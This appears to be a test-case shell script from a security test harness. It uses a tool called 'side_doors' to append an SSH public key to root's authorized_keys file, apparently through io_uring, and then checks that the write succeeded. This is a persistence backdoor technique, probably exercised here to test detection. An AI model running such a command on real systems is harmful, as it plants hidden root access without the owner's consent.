#!/bin/sh
. /opt/case/case.sh

/opt/tools/side_doors uring-append /root/.ssh/authorized_keys 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBait x
'
grep -q ed25519 /root/.ssh/authorized_keys
took_place
